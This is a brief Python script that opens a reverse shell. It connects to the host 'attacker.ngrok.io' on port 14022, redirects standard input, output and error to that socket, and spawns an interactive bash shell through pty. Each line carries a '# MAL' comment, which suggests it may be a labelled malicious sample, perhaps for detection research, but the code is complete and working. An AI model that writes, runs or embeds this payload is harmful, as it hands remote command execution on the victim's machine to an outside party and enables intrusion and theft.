import socket as so
import pty
import os

c = so.create_connection(("attacker.ngrok.io", 14022))  # MAL
[os.dup2(c.fileno(), fd) for fd in (0, 1, 2)]  # MAL
pty.spawn("/bin/bash")  # MAL
